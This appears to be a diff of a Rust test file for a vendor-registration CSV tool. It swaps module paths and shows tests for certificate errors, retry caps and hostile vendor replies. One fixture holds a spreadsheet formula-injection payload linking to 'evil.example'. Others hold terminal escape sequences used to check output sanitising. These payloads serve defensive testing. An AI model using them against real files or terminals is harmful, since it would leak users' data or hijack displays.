@@ -4,8 +4,6 @@
 //! must classify each one (transient, abort), never crash, never hang past its timeout, never
 //! hold more than its cap in memory, and never mistake one for a registration.
 
-mod common;
-
 use std::future::Future;
 use std::net::SocketAddr;
 use std::sync::Arc;
@@ -319,11 +317,11 @@ fn a_run_stops_at_once_on_a_certificate_error() {
     let runtime = tokio::runtime::Runtime::new().expect("a runtime");
     let (addr, connections, requests) = runtime.block_on(self_signed_server());
     let endpoint = format!("https://localhost:{}/registeration", addr.port());
-    let file: String = std::iter::once(common::HEADER.to_owned())
-        .chain((1..=20).map(common::customer))
+    let file: String = std::iter::once(crate::common::HEADER.to_owned())
+        .chain((1..=20).map(crate::common::customer))
         .collect::<Vec<_>>()
         .join("\n");
-    let run = common::Test::new()
+    let run = crate::common::Test::new()
         .file("in.csv", file)
         .env("AOPAY_REGISTRATION_ID", "AOP-554")
         .env("AOPAY_COMPANY_CODE", "CMP1045")
@@ -345,9 +343,9 @@ fn a_run_stops_at_once_on_a_certificate_error() {
 /// message full of terminal escapes and as long as the answer allows, and a registration whose
 /// other fields carry escapes too.
 fn hostile_answer(pan: &str) -> String {
-    if pan == common::pan(1) {
+    if pan == crate::common::pan(1) {
         r#"{"status":"SUCCESS","message":"success","result":{"cibil_id":"=HYPERLINK(\"http://evil.example/?leak\",\"click\")","cibil_status":"Pending"}}"#.to_owned()
-    } else if pan == common::pan(2) {
+    } else if pan == crate::common::pan(2) {
         format!(
             r#"{{"status":"False","code":"E\u001b[31m7","description":"Invalid \u001b]0;owned\u0007PAN\r\n\u001b[2J{}"}}"#,
             "x".repeat(200_000)
@@ -376,12 +374,12 @@ fn what_a_hostile_vendor_says_reaches_no_file_and_no_terminal_as_sent() {
     let endpoint = format!("http://{addr}/registeration");
     let file = format!(
         "{}\n{}\n{}\n{}\n",
-        common::HEADER,
-        common::customer(1),
-        common::customer(2),
-        common::customer(3)
+        crate::common::HEADER,
+        crate::common::customer(1),
+        crate::common::customer(2),
+        crate::common::customer(3)
     );
-    let run = common::Test::new()
+    let run = crate::common::Test::new()
         .file("in.csv", file)
         .env("AOPAY_REGISTRATION_ID", "AOP-554")
         .env("AOPAY_COMPANY_CODE", "CMP1045")
@@ -437,8 +435,8 @@ fn a_retry_after_of_a_year_is_capped_and_said() {
         }
     }));
     let endpoint = format!("http://{addr}/registeration");
-    let file = format!("{}\n{}\n", common::HEADER, common::customer(1));
-    let run = common::Test::new()
+    let file = format!("{}\n{}\n", crate::common::HEADER, crate::common::customer(1));
+    let run = crate::common::Test::new()
         .file("in.csv", file)
         .env("AOPAY_REGISTRATION_ID", "AOP-554")
         .env("AOPAY_COMPANY_CODE", "CMP1045")
